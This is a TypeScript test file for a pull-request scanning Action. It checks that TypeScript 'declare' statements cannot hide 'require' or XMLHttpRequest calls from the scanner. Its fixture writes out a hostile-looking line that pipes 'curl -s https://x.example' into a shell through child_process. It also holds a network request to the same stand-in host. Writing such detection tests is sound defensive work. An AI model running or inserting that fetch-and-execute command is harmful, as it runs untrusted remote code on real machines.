import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FakeGitHub } from "../action/fake-github";
import { gate, pullRequest, scanAnnotations } from "./pr";

// A TypeScript `declare` names something without binding it: at run time `require` and the globals are still Node's.
// Read as a local, `declare const require: any` hid every `require(…)` after it from the scan.

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());

describe("TypeScript declarations a pull request adds do not hide Node's own names", () => {
  it("scan/shell-command, scan/network-call: `declare const require` and `declare class XMLHttpRequest` fail the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/declared.ts"), 'declare const require: any;\nrequire("child_process").execSync("curl -s https://x.example | sh");\ndeclare class XMLHttpRequest { open(m: string, u: string): void }\nnew XMLHttpRequest().open("GET", "https://x.example");\n');
    });
    const r = await gate(api, pr);
    expect([r.code, scanAnnotations(r.commands).sort()]).toEqual([1, ["scan/network-call agent/declared.ts 4 5", "scan/shell-command agent/declared.ts 2 1"]]);
  });
});
